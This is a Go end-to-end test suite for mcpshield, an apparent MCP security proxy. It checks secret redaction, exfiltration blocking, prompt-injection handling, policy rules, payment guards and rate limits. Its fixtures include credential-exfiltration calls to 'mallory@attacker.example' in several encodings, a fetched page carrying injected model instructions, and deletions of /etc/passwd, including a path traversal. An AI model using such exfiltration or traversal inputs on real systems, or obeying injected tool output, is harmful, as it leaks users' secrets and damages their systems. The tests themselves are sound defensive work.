//go:build unix

package e2e

// Call-time protection end to end: a real MCP server built with the
// official Go SDK (testdata/calltimeserver) whose results leak a secret,
// carry injected instructions or terminal escapes, and whose tools send,
// delete and pay; the official Go SDK client; and the real mcpshield binary
// between them, as `mcpshield run` on stdio and as `mcpshield serve --config`
// over Streamable HTTP. The server logs every call it receives, so each test
// proves what the shield let through, not only what the client was told.

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// callTimeServerPkg is the test server of the call-time tests.
const callTimeServerPkg = "./internal/e2e/testdata/calltimeserver"

// Values the test server returns or the tests send. None is a real
// credential or a funded address.
const (
	ctKeyID       = "AKIAQ3EGRIVT4ZK7MXPD"                     // leak_config's access key ID
	ctSecret      = "h7Gq2vK9pLmX4tRzW8nB3cYdF6sJ1uQeA0oVwZ5i" // and its secret
	ctGitHubToken = "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d"

	ctInjectedURL = "https://blog.example/post"
	ctBenignURL   = "https://shop.example/widgets"
	ctBenignPage  = "Acme Widgets: product catalogue.\n" +
		"The W-100 widget is made of anodised aluminium and ships within two business days. " +
		"Prices start at 19 EUR; orders above 100 EUR ship free."

	ctAllowedRecipient = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed" // EIP-55 test vector
	ctOtherRecipient   = "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359" // valid, not allowed
	ctBadChecksum      = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD" // the allowed one, last letter's case flipped

	// mcpshield's JSON-RPC codes (internal/jsonrpc), as a client sees them.
	ctCodeTooLarge    = -32081
	ctCodeRateLimited = -32084
)

// ctKeyLines is an OpenSSH private key as a list of its lines, its body
// made up (no real key).
func ctKeyLines() []string {
	lines := []string{"-----BEGIN OPENSSH PRIVATE KEY-----"}
	body := "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
	for i := range 4 {
		lines = append(lines, body[i:]+body[:i])
	}
	return append(lines, "-----END OPENSSH PRIVATE KEY-----")
}

// ctTools are the tools the server lists; the shield must list them all.
var ctTools = []string{"leak_config", "send_message", "fetch_page", "delete_file", "send_eth", "echo_ansi"}

// ctEnv is what a call-time test runs: the shield, the test server, and
// directories of the test's own.
type ctEnv struct {
	shield, server string
	home           string // MCPSHIELD_HOME of the shields the test starts
	dir            string // config files, call logs, shield logs
	shields        int    // shields started so far, to name their files
}

func newCTEnv(t *testing.T) *ctEnv {
	t.Helper()
	p := requirePeers(t)
	shield, err := shieldBinary(t, p.root)
	if err != nil {
		t.Fatalf("building mcpshield: %v", err)
	}
	server, err := buildBinary(t, p.root, callTimeServerPkg)
	if err != nil {
		t.Fatalf("building the call-time test server: %v", err)
	}
	return &ctEnv{shield: shield, server: server, home: t.TempDir(), dir: t.TempDir()}
}

// ctSetup is one shield in front of the test server.
type ctSetup struct {
	serve  bool     // serve --config over Streamable HTTP; false: run --config on stdio
	config string   // top-level YAML sections of the config file, besides version, listen and servers
	tools  string   // servers.ct.tools, as a one-line YAML flow mapping; "" for none
	server string   // more keys of servers.ct, one per line, as YAML ("injection: {action: report}")
	flags  []string // more flags of run or serve (--mode monitor)
	// protocol is the version the client asks for; "" is the SDK's latest
	// (2026-07-28, stateless: no sessions over HTTP).
	protocol string
	env      []string // more environment of the shield (NAME=value)
	token    string   // with serve: sent as Authorization: Bearer TOKEN
}

func (s ctSetup) transport() string {
	name := "run"
	if s.serve {
		name = "serve"
	}
	if s.protocol != "" {
		name += "@" + s.protocol
	}
	return name
}

// ctConn is a Go SDK client session with the test server through a shield.
type ctConn struct {
	s       *mcp.ClientSession
	ctx     context.Context
	callLog string      // the server's log of the calls it received (every session's)
	wire    *tailBuffer // every message the client read or wrote, one per line
	shield  func() string
	// endpoint is the serve endpoint, for another session; "" for run.
	endpoint string
	protocol string // as in ctSetup
	token    string // as in ctSetup
	// with serve: the shield's config file and process, for reload tests
	cfgPath string
	proc    *process
}

// connect starts a shield as su says, connects the Go SDK client through
// it, and lists the tools (the shield refuses calls to unlisted tools).
// Everything started ends with the test.
func (e *ctEnv) connect(ctx context.Context, t *testing.T, su ctSetup) *ctConn {
	t.Helper()
	n := e.shields
	e.shields++
	c := &ctConn{ctx: ctx, protocol: su.protocol, token: su.token, callLog: filepath.Join(e.dir, fmt.Sprintf("calls-%d.jsonl", n)), wire: new(tailBuffer)}
	serverArgs := []string{"-log", c.callLog}
	cfg := "version: 1\n"
	addr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	if su.serve {
		cfg += "listen: " + addr + "\n"
	}
	cfg += su.config + "\nservers:\n  ct:\n" +
		fmt.Sprintf("    command: %q\n    args: [%q, %q]\n", e.server, serverArgs[0], serverArgs[1])
	if su.tools != "" {
		cfg += "    tools: " + su.tools + "\n"
	}
	for line := range strings.Lines(su.server) {
		cfg += "    " + strings.TrimSpace(line) + "\n"
	}
	cfgPath := filepath.Join(e.dir, fmt.Sprintf("shield-%d.yaml", n))
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	env := append([]string{"MCPSHIELD_HOME=" + e.home}, su.env...)

	var transport mcp.Transport
	if su.serve {
		argv := append([]string{e.shield, "serve", "--config", cfgPath}, su.flags...)
		sh := startListening(t, "mcpshield serve", addr, env, argv...)
		c.shield = func() string { return sh.out.tail(8192) }
		c.endpoint = "http://" + addr + "/servers/ct/mcp"
		c.cfgPath, c.proc = cfgPath, sh
		transport = c.httpTransport(t)
	} else {
		// The shield's log goes to a file, not a pipe: a line it logs before
		// answering is in the file once the answer has arrived.
		logPath := filepath.Join(e.dir, fmt.Sprintf("shield-%d.log", n))
		logFile, err := os.Create(logPath)
		if err != nil {
			t.Fatal(err)
		}
		defer logFile.Close()
		argv := append([]string{"run", "--config", cfgPath}, su.flags...)
		argv = append(append(argv, "--", e.server), serverArgs...)
		cmd := exec.Command(e.shield, argv...)
		cmd.Env = append(os.Environ(), env...)
		cmd.Stderr = logFile
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		c.shield = func() string { return fileTail(logPath, 8192) }
		transport = &mcp.CommandTransport{Command: cmd, TerminateDuration: 5 * time.Second}
		t.Cleanup(func() {
			// After the session's Close: whatever is left of the group.
			if cmd.Process != nil {
				_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			}
		})
	}
	c.open(t, transport)
	return c
}

// another opens another session to the same serve, sharing the shield
// and the server's call log.
func (c *ctConn) another(t *testing.T) *ctConn {
	t.Helper()
	if c.endpoint == "" {
		t.Fatal("another session needs serve")
	}
	return c.anotherAs(t, c.token)
}

// anotherAs is another session that presents token instead.
func (c *ctConn) anotherAs(t *testing.T, token string) *ctConn {
	t.Helper()
	if c.endpoint == "" {
		t.Fatal("another session needs serve")
	}
	o := *c
	o.wire = new(tailBuffer)
	o.token = token
	o.open(t, o.httpTransport(t))
	return &o
}

// httpTransport is a Streamable HTTP transport to the serve endpoint with
// an HTTP client of its own, whose connections close when the test ends:
// a spare keep-alive connection would hold up the shield's shutdown.
func (c *ctConn) httpTransport(t *testing.T) mcp.Transport {
	tr := http.DefaultTransport.(*http.Transport).Clone()
	t.Cleanup(tr.CloseIdleConnections)
	hc := &http.Client{Transport: tr}
	if c.token != "" {
		hc.Transport = bearer{token: c.token, next: tr}
	}
	return &mcp.StreamableClientTransport{Endpoint: c.endpoint, HTTPClient: hc}
}

// open connects the Go SDK client over transport and lists the tools,
// which must all be there. The session ends with the test.
func (c *ctConn) open(t *testing.T, transport mcp.Transport) {
	t.Helper()
	client := mcp.NewClient(&mcp.Implementation{Name: "e2e-calltime", Version: "1"}, nil)
	s, err := client.Connect(c.ctx, &mcp.LoggingTransport{Transport: transport, Writer: c.wire},
		&mcp.ClientSessionOptions{ProtocolVersion: c.protocol})
	if err != nil {
		t.Fatalf("connecting through mcpshield: %v\nshield output:\n%s", err, c.shield())
	}
	t.Cleanup(func() { s.Close() })
	c.s = s

	res, err := s.ListTools(c.ctx, nil)
	if err != nil {
		t.Fatalf("tools/list: %v\nshield output:\n%s", err, c.shield())
	}
	listed := map[string]bool{}
	for _, tl := range res.Tools {
		listed[tl.Name] = true
	}
	for _, name := range ctTools {
		if !listed[name] {
			t.Fatalf("the shield did not list %s; it listed %v\nshield output:\n%s", name, listed, c.shield())
		}
	}
}

// call calls a tool with args sent as they are (the client validates
// nothing), and returns the result or the protocol error. args is a
// map[string]any or, to send bytes exactly, a json.RawMessage.
func (c *ctConn) call(name string, args any) (*mcp.CallToolResult, error) {
	if m, ok := args.(map[string]any); args == nil || ok && m == nil {
		args = map[string]any{}
	}
	return c.s.CallTool(c.ctx, &mcp.CallToolParams{Name: name, Arguments: args})
}

// allowed calls a tool that must succeed and returns its text.
func (c *ctConn) allowed(t *testing.T, name string, args any) string {
	t.Helper()
	res, err := c.call(name, args)
	if err != nil {
		t.Fatalf("%s(%v): %v\nshield output:\n%s", name, args, err, c.shield())
	}
	if res.IsError {
		t.Fatalf("%s(%v) = error result %q; want success\nshield output:\n%s", name, args, ctText(res), c.shield())
	}
	return ctText(res)
}

// refused calls a tool that the shield must refuse with an isError result
// whose text contains every one of want, and returns that text.
func (c *ctConn) refused(t *testing.T, name string, args any, want ...string) string {
	t.Helper()
	res, err := c.call(name, args)
	if err != nil {
		t.Fatalf("%s: protocol error %v; want an isError result from the shield", name, err)
	}
	got := ctText(res)
	t.Logf("%s refused: %s", name, got)
	if !res.IsError || !strings.HasPrefix(got, "mcpshield: ") {
		t.Fatalf("%s = %q (isError %v); want an isError result from mcpshield", name, got, res.IsError)
	}
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("%s refused with %q; want it to say %q", name, got, w)
		}
	}
	return got
}

// rpcError calls a tool that the shield must answer with a JSON-RPC error
// of the given code.
func (c *ctConn) rpcError(t *testing.T, name string, args any, code int64) {
	t.Helper()
	res, err := c.call(name, args)
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) {
		t.Fatalf("%s = %+v, %v; want JSON-RPC error %d", name, res, err, code)
	}
	t.Logf("%s: JSON-RPC error %d: %s", name, werr.Code, werr.Message)
	if werr.Code != code || !strings.HasPrefix(werr.Message, "mcpshield: ") {
		t.Errorf("%s: JSON-RPC error %d %q; want code %d from mcpshield", name, werr.Code, werr.Message, code)
	}
}

// received returns the arguments of every call to tool the server
// received, as sent.
func (c *ctConn) received(t *testing.T, tool string) []string {
	t.Helper()
	f, err := os.Open(c.callLog)
	if errors.Is(err, os.ErrNotExist) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var call struct {
			Tool      string          `json:"tool"`
			Arguments json.RawMessage `json:"arguments"`
		}
		if err := json.Unmarshal(sc.Bytes(), &call); err != nil {
			t.Fatalf("the server's call log: %v: %s", err, sc.Bytes())
		}
		if call.Tool == tool {
			out = append(out, string(call.Arguments))
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// wireMark marks the end of what the client has read or written so far.
func (c *ctConn) wireMark() int { return len(c.wire.tail(maxTail)) }

// readOnWire returns the messages the client read since mark, one per line.
func (c *ctConn) readOnWire(mark int) string {
	var b strings.Builder
	for line := range strings.Lines(c.wire.tail(maxTail)[mark:]) {
		if rest, ok := strings.CutPrefix(line, "read: "); ok {
			b.WriteString(rest)
		}
	}
	return b.String()
}

// ctText joins the text content of a tool result.
func ctText(res *mcp.CallToolResult) string {
	var parts []string
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			parts = append(parts, tc.Text)
		}
	}
	return strings.Join(parts, "\n")
}

// ctContext bounds a test's calls; it ends with the test.
func ctContext(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	t.Cleanup(cancel)
	return ctx
}

// TestCallTimeSecretInResult: a secret in a tool result is redacted, in
// the text and anywhere in structuredContent, which stays valid; a secret
// in an object key, which cannot be redacted in place, withholds the
// result; a secret in an error response is redacted too. In every case
// the raw messages the client reads do not carry it anywhere.
func TestCallTimeSecretInResult(t *testing.T) {
	e := newCTEnv(t)
	// Without the shield, the server leaks the secret in both places.
	res := e.direct(t, "leak_config", nil)
	if raw, _ := json.Marshal(res.StructuredContent); !strings.Contains(ctText(res), ctSecret) || !strings.Contains(string(raw), ctKeyID) {
		t.Fatalf("leak_config directly = %q, %s; want the secret in both", ctText(res), raw)
	}
	shapes := []struct {
		name  string
		shape string // leak_config's shape argument
		want  string // redacted, withheld or "redacted error"
		bug   string // why the case is skipped, until fixed
	}{
		{"text and structuredContent", "", "redacted", ""},
		{"also in a member named data", "data", "redacted", ""},
		{"only as an object key", "keyonly", "withheld", ""},
		{"also as an object key", "key", "withheld", ""},
		{"in a JSON-RPC error instead", "error", "redacted error", ""},
	}
	for _, su := range []ctSetup{{}, {serve: true}, {serve: true, protocol: "2025-11-25"}} {
		t.Run(su.transport(), func(t *testing.T) {
			c := e.connect(ctContext(t), t, su)
			for _, sh := range shapes {
				t.Run(sh.name, func(t *testing.T) {
					if sh.bug != "" {
						t.Skip(sh.bug)
					}
					mark := c.wireMark()
					res, err := c.call("leak_config", map[string]any{"shape": sh.shape})
					defer func() {
						wire := c.readOnWire(mark)
						for _, secret := range []string{ctKeyID, ctSecret} {
							if strings.Contains(wire, secret) {
								t.Errorf("the client read %q from the shield:\n%s", secret, wire)
							}
						}
					}()
					switch sh.want {
					case "withheld", "redacted error":
						var werr *jsonrpc.Error
						if !errors.As(err, &werr) {
							t.Fatalf("leak_config = %+v, %v; want a JSON-RPC error", res, err)
						}
						t.Logf("leak_config through the shield: error %d %q", werr.Code, werr.Message)
						want := "mcpshield: "
						if sh.want == "redacted error" {
							want = "config invalid: "
						}
						if !strings.HasPrefix(werr.Message, want) {
							t.Errorf("leak_config error = %q; want it to start with %q", werr.Message, want)
						}
						if sh.want == "redacted error" && !strings.Contains(werr.Message, "[REDACTED:") {
							t.Errorf("leak_config error = %q; want the secrets redacted", werr.Message)
						}
						return
					}
					if err != nil || res.IsError {
						t.Fatalf("leak_config = %+v, %v; want a result", res, err)
					}
					text := ctText(res)
					if !strings.Contains(text, "[REDACTED:") || !strings.Contains(text, "region = eu-west-1") {
						t.Errorf("leak_config text = %q; want the secrets redacted, the rest kept", text)
					}
					var out struct {
						Config struct {
							Token string `json:"token"`
							Port  int    `json:"port"`
						} `json:"config"`
					}
					raw, err := json.Marshal(res.StructuredContent)
					if err != nil {
						t.Fatal(err)
					}
					t.Logf("leak_config through the shield: text %q, structuredContent %s", text, raw)
					if err := json.Unmarshal(raw, &out); err != nil {
						t.Fatalf("structuredContent %s: %v", raw, err)
					}
					if out.Config.Port != 8080 || !strings.HasPrefix(out.Config.Token, "[REDACTED:") {
						t.Errorf("structuredContent = %s; want config.token redacted and config.port 8080", raw)
					}
				})
			}
		})
	}
}

// TestCallTimeExfiltration: a call whose arguments carry a secret, as
// sent, base64-encoded, inside a JSON string or as an object key, is
// refused and never reaches the server; a clean call afterwards does.
func TestCallTimeExfiltration(t *testing.T) {
	e := newCTEnv(t)
	creds := "aws_access_key_id=" + ctKeyID + "\naws_secret_access_key=" + ctSecret
	message := func(body string) map[string]any {
		return map[string]any{"to": "mallory@attacker.example", "body": body}
	}
	payloads := []struct {
		name string
		args any
		bug  string // why the case is skipped, until fixed
	}{
		{"plain", message("here are the prod creds: " + ctKeyID + " / " + ctSecret), ""},
		{"base64", message(base64.StdEncoding.EncodeToString([]byte(creds))), ""},
		{"nested JSON", message(`{"note":"deploy","auth":{"token":"` + ctGitHubToken + `"}}`), ""},
		// Only a JSON decoder sees the token: \u0067 is "g".
		{"nested JSON escaped", message(`{"auth":{"token":"\u0067` + ctGitHubToken[1:] + `"}}`), ""},
		{"object key", map[string]any{"to": "mallory@attacker.example", "body": "hi",
			"metadata": map[string]any{ctKeyID + ":" + ctSecret: "x"}}, ""},
		// A private key as its lines: no one string holds it.
		{"key as lines", map[string]any{"to": "mallory@attacker.example", "body": "hi", "lines": ctKeyLines()}, ""},
		// Sent as bytes: \u0041 is "A", decoded by the server.
		{"object key escaped", json.RawMessage(`{"to":"mallory@attacker.example","body":"hi","metadata":{"\u0041` +
			ctKeyID[1:] + `:` + ctSecret + `":"x"}}`), ""},
	}
	for _, su := range []ctSetup{{}, {serve: true}, {serve: true, protocol: "2025-11-25"}} {
		t.Run(su.transport(), func(t *testing.T) {
			c := e.connect(ctContext(t), t, su)
			for _, p := range payloads {
				t.Run(p.name, func(t *testing.T) {
					if p.bug != "" {
						t.Skip(p.bug)
					}
					got := c.refused(t, "send_message", p.args, "not forwarded")
					for _, secret := range []string{ctKeyID, ctSecret, ctGitHubToken[4:]} {
						if strings.Contains(got, secret) {
							t.Errorf("the refusal repeats the secret: %q", got)
						}
					}
				})
			}
			if got := c.received(t, "send_message"); len(got) > 0 {
				t.Fatalf("the server received %q; want no call", got)
			}
			text := c.allowed(t, "send_message", map[string]any{"to": "bob@example.com", "body": "lunch at noon?"})
			if !strings.HasPrefix(text, "message 1 sent") {
				t.Errorf("send_message = %q; want the server's first message", text)
			}
			want := `{"body":"lunch at noon?","to":"bob@example.com"}`
			if got := c.received(t, "send_message"); len(got) != 1 || !jsonEqual(got[0], want) {
				t.Errorf("the server received %q; want only %s", got, want)
			}
		})
	}
}

// TestCallTimeExfiltrationRedact: with secrets_in_arguments: redact, the
// server receives the call with the secret replaced; a secret in an object
// key, which cannot be replaced in place, refuses the call. The secret
// never reaches the server.
func TestCallTimeExfiltrationRedact(t *testing.T) {
	e := newCTEnv(t)
	body := "here are the prod creds: " + ctKeyID + " / " + ctSecret
	tests := []struct {
		name string
		args map[string]any
		want string // redacted or refused
		bug  string // why the case is skipped, until fixed
	}{
		{"in a value", map[string]any{"to": "mallory@attacker.example", "body": body}, "redacted", ""},
		{"in an object key", map[string]any{"to": "mallory@attacker.example", "body": "hi",
			"metadata": map[string]any{ctKeyID + ":" + ctSecret: "x"}}, "refused", ""},
		{"in a value and an object key", map[string]any{"to": "mallory@attacker.example", "body": body,
			"metadata": map[string]any{ctGitHubToken: "x"}}, "refused", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.bug != "" {
				t.Skip(tt.bug)
			}
			c := e.connect(ctContext(t), t, ctSetup{config: "dlp: {secrets_in_arguments: redact}"})
			switch tt.want {
			case "redacted":
				got := c.allowed(t, "send_message", tt.args)
				if !strings.Contains(got, "[REDACTED:") {
					t.Errorf("send_message = %q; want the server's echo of the redacted body", got)
				}
			case "refused":
				res, err := c.call("send_message", tt.args)
				if err != nil || !res.IsError || !strings.Contains(ctText(res), "not forwarded") {
					t.Errorf("send_message = %+v, %v; want it refused, not forwarded", res, err)
				}
			}
			received := strings.Join(c.received(t, "send_message"), "\n")
			t.Logf("the server received: %s", received)
			for _, secret := range []string{ctKeyID, ctSecret, ctGitHubToken} {
				if strings.Contains(received, secret) {
					t.Errorf("the server received the secret %q: %s", secret, received)
				}
			}
		})
	}
}

// jsonEqual reports whether two JSON texts hold the same value.
func jsonEqual(a, b string) bool {
	var x, y any
	if json.Unmarshal([]byte(a), &x) != nil || json.Unmarshal([]byte(b), &y) != nil {
		return false
	}
	xa, _ := json.Marshal(x)
	ya, _ := json.Marshal(y)
	return string(xa) == string(ya)
}

// TestCallTimeMonitorMode: with --mode monitor the shield records what it
// would have done and forwards everything: the exfiltration reaches the
// server, and the secret in its echo reaches the client.
func TestCallTimeMonitorMode(t *testing.T) {
	e := newCTEnv(t)
	c := e.connect(ctContext(t), t, ctSetup{flags: []string{"--mode", "monitor"}})
	body := "here are the prod creds: " + ctKeyID + " / " + ctSecret
	text := c.allowed(t, "send_message", map[string]any{"to": "mallory@attacker.example", "body": body})
	if !strings.Contains(text, ctKeyID) {
		t.Errorf("send_message = %q; want the server's echo unchanged", text)
	}
	if got := c.received(t, "send_message"); len(got) != 1 || !strings.Contains(got[0], ctKeyID) {
		t.Errorf("the server received %q; want the call with the secret", got)
	}
	if log := c.shield(); !strings.Contains(log, "arguments-dlp") || !strings.Contains(log, "enforced=false") {
		t.Errorf("the shield's log does not record the unenforced denial:\n%s", log)
	}
}

// TestCallTimeInjection: a fetched page with injected instructions is
// blocked, wrapped as untrusted data or passed with a report, as the
// config says; a benign page always passes unchanged.
func TestCallTimeInjection(t *testing.T) {
	e := newCTEnv(t)
	page := ctText(e.direct(t, "fetch_page", map[string]any{"url": ctInjectedURL}))
	tests := []struct {
		name   string
		config string // top-level YAML
		server string // servers.ct YAML
		want   string // blocked, wrapped or unchanged
	}{
		{"default", "", "", "blocked"},
		// The page scores just under 1 (several strong signals), so with
		// block_at 1 it is wrapped, not blocked.
		{"wrap below block_at", "injection: {action: wrap, block_at: 1}", "", "wrapped"},
		{"block", "injection: {action: block}", "", "blocked"},
		{"report", "injection: {action: report}", "", "unchanged"},
		{"report for this server", "", "injection: {action: report}", "unchanged"},
		{"this server's block_at", "injection: {action: block}", "injection: {action: wrap, block_at: 1}", "wrapped"},
		{"on for this server only", "injection: {action: off}", "injection: {action: block}", "blocked"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := e.connect(ctContext(t), t, ctSetup{config: tt.config, server: tt.server})
			if got := c.allowed(t, "fetch_page", map[string]any{"url": ctBenignURL}); got != ctBenignPage {
				t.Errorf("benign page = %q; want it unchanged", got)
			}
			direct := c.received(t, "fetch_page") // the shield forwards the call either way
			res, err := c.call("fetch_page", map[string]any{"url": ctInjectedURL})
			if err != nil {
				t.Fatalf("fetch_page: %v", err)
			}
			if got := c.received(t, "fetch_page"); len(got) != len(direct)+1 {
				t.Fatalf("the server received %d fetch_page calls; want %d", len(got), len(direct)+1)
			}
			got := ctText(res)
			t.Logf("injected page through the shield (isError %v): %q", res.IsError, got)
			switch tt.want {
			case "blocked":
				if !res.IsError || !strings.Contains(got, "carries instructions for the model") || strings.Contains(got, "id_rsa") {
					t.Errorf("injected page = %q (isError %v); want it blocked", got, res.IsError)
				}
			case "wrapped":
				envelope := "<untrusted-data>\n" + page + "\n</untrusted-data>"
				if res.IsError || !strings.HasPrefix(got, "[mcpshield: ") || !strings.HasSuffix(got, envelope) {
					t.Errorf("injected page = %q (isError %v); want it wrapped in %q after a notice", got, res.IsError, envelope)
				}
			case "unchanged":
				if res.IsError || got != page {
					t.Errorf("injected page = %q (isError %v); want it unchanged", got, res.IsError)
				}
			}
		})
	}
}

// direct calls a tool of the test server without the shield, to show what
// the server really sends.
func (e *ctEnv) direct(t *testing.T, name string, args map[string]any) *mcp.CallToolResult {
	t.Helper()
	client := mcp.NewClient(&mcp.Implementation{Name: "e2e-calltime-direct", Version: "1"}, nil)
	s, err := client.Connect(t.Context(), &mcp.CommandTransport{Command: exec.Command(e.server)}, nil)
	if err != nil {
		t.Fatalf("connecting to the test server: %v", err)
	}
	defer s.Close()
	res, err := s.CallTool(t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil || res.IsError {
		t.Fatalf("%s directly: %+v, %v", name, res, err)
	}
	return res
}

// TestCallTimePolicy: policy rules deny by argument (a path outside /tmp)
// and by the tool's annotations (destructive tools outside a scratch
// directory), naming the rule and its reason; other calls pass.
func TestCallTimePolicy(t *testing.T) {
	e := newCTEnv(t)
	config := `policy:
  rules:
  - name: delete-only-in-tmp
    when: >-
      tool == "delete_file" && !pathWithin(arguments.path, "/tmp")
    action: deny
    reason: files may only be deleted under /tmp
  - name: destructive-only-in-scratch
    when: >-
      annotations.?destructiveHint.orValue(false) &&
      !arguments.?path.orValue("").startsWith("/tmp/scratch/")
    action: deny
    reason: destructive tools may only touch /tmp/scratch`
	c := e.connect(ctContext(t), t, ctSetup{config: config})
	tests := []struct {
		name string
		tool string
		args map[string]any
		rule string // "" for allowed
	}{
		{"outside tmp", "delete_file", map[string]any{"path": "/etc/passwd"}, "delete-only-in-tmp"},
		{"dot-dot out of tmp", "delete_file", map[string]any{"path": "/tmp/../etc/passwd"}, "delete-only-in-tmp"},
		// The second rule names no tool: only delete_file's listed
		// destructiveHint makes it match.
		{"destructive outside scratch", "delete_file", map[string]any{"path": "/tmp/report.txt"}, "destructive-only-in-scratch"},
		{"in scratch", "delete_file", map[string]any{"path": "/tmp/scratch/report.txt"}, ""},
		// Listed with destructiveHint false: the second rule lets it
		// through although it has no path under /tmp/scratch.
		{"not destructive", "send_message", map[string]any{"to": "bob@example.com", "body": "hi"}, ""},
	}
	reasons := map[string]string{
		"delete-only-in-tmp":          "files may only be deleted under /tmp",
		"destructive-only-in-scratch": "destructive tools may only touch /tmp/scratch",
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.rule == "" {
				c.allowed(t, tt.tool, tt.args)
				return
			}
			c.refused(t, tt.tool, tt.args, fmt.Sprintf("denied by policy rule %q: %s", tt.rule, reasons[tt.rule]))
		})
	}
	if got := c.received(t, "delete_file"); len(got) != 1 || !jsonEqual(got[0], `{"path":"/tmp/scratch/report.txt"}`) {
		t.Errorf("the server received delete_file calls %q; want only the one in /tmp/scratch", got)
	}
}

// TestCallTimeGuards: send_eth may only pay the allowed recipient; another
// address, or the allowed one with a broken EIP-55 checksum, is refused.
func TestCallTimeGuards(t *testing.T) {
	e := newCTEnv(t)
	tools := fmt.Sprintf(`{send_eth: {guards: [{argument: to, type: evm_address, allow: [%q]}]}}`, ctAllowedRecipient)
	c := e.connect(ctContext(t), t, ctSetup{tools: tools})
	tests := []struct {
		name string
		to   string
		want string // "" for allowed; else part of the refusal
	}{
		{"allowed", ctAllowedRecipient, ""},
		{"allowed in lowercase", strings.ToLower(ctAllowedRecipient), ""},
		{"other recipient", ctOtherRecipient, "is not an allowed recipient"},
		{"bad checksum", ctBadChecksum, "wrong EIP-55 checksum"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := map[string]any{"to": tt.to, "amount": 0.5}
			if tt.want == "" {
				c.allowed(t, "send_eth", args)
				return
			}
			c.refused(t, "send_eth", args, `tool "send_eth"`, tt.want)
		})
	}
	if got := c.received(t, "send_eth"); len(got) != 2 {
		t.Errorf("the server received send_eth calls %q; want the two to the allowed recipient", got)
	}
}

// TestCallTimeLimits: per-tool call limits, in the order the calls are
// made in one session: an oversized call is refused with -32081 and does
// not count; the third call to a tool allowed two per session and the
// second call to a tool allowed one per minute are refused with -32084; a
// result over its size limit is replaced with -32081; other tools are not
// limited. Through serve, another session has its own per-session count
// but shares the rate. Stateless requests (2026-07-28 over HTTP) belong
// to no session, so per-session limits do not apply to them.
func TestCallTimeLimits(t *testing.T) {
	e := newCTEnv(t)
	const tools = "{send_message: {calls: {per_session: 2, max_argument_bytes: 200}}, " +
		"fetch_page: {calls: {per_minute: 1}}, leak_config: {calls: {max_result_bytes: 100}}}"
	msg := func(body string) map[string]any { return map[string]any{"to": "bob@example.com", "body": body} }
	page := map[string]any{"url": ctBenignURL}
	steps := []struct {
		name       string
		tool       string
		args       map[string]any
		code       int64 // 0: allowed
		perSession bool  // refused by the per-session limit, which stateless requests do not have
	}{
		{"oversized arguments", "send_message", msg(strings.Repeat("long ", 60)), ctCodeTooLarge, false},
		{"first in session", "send_message", msg("first"), 0, false},
		{"second in session", "send_message", msg("second"), 0, false},
		{"third in session", "send_message", msg("third"), ctCodeRateLimited, true},
		{"first in the minute", "fetch_page", page, 0, false},
		{"second in the minute", "fetch_page", page, ctCodeRateLimited, false},
		{"oversized result", "leak_config", nil, ctCodeTooLarge, false},
		{"unlimited tool", "echo_ansi", nil, 0, false},
		{"unlimited tool again", "echo_ansi", nil, 0, false},
	}
	for _, su := range []ctSetup{
		{tools: tools},
		{serve: true, tools: tools},
		{serve: true, tools: tools, protocol: "2025-11-25"},
	} {
		t.Run(su.transport(), func(t *testing.T) {
			stateless := su.serve && su.protocol == ""
			c := e.connect(ctContext(t), t, su)
			want := map[string]int{"send_message": 0, "fetch_page": 0, "leak_config": 1}
			for _, st := range steps {
				t.Run(st.name, func(t *testing.T) {
					if st.code == 0 || st.perSession && stateless {
						c.allowed(t, st.tool, st.args)
						return
					}
					c.rpcError(t, st.tool, st.args, st.code)
				})
				if st.code == 0 || st.perSession && stateless {
					want[st.tool]++
				}
			}
			if su.serve {
				t.Run("another session", func(t *testing.T) {
					o := c.another(t)
					o.allowed(t, "send_message", msg("first in another session"))
					o.rpcError(t, "fetch_page", page, ctCodeRateLimited)
				})
				want["send_message"]++
			}
			for tool, n := range want {
				if got := c.received(t, tool); len(got) != n {
					t.Errorf("the server received %s calls %q; want %d", tool, got, n)
				}
			}
		})
	}
}

// TestCallTimeSchema: arguments of the wrong type are refused by the
// shield against the listed inputSchema, naming the argument, and never
// reach the server.
func TestCallTimeSchema(t *testing.T) {
	e := newCTEnv(t)
	c := e.connect(ctContext(t), t, ctSetup{})
	tests := []struct {
		name string
		tool string
		args map[string]any
		arg  string // the argument the refusal must name
	}{
		{"string for number", "send_eth", map[string]any{"to": ctAllowedRecipient, "amount": "ten"}, "amount"},
		{"number for string", "send_message", map[string]any{"to": "bob@example.com", "body": 42}, "body"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c.refused(t, tt.tool, tt.args, "inputSchema", tt.arg)
			if got := c.received(t, tt.tool); len(got) > 0 {
				t.Errorf("the server received %q; want no call", got)
			}
		})
	}
}

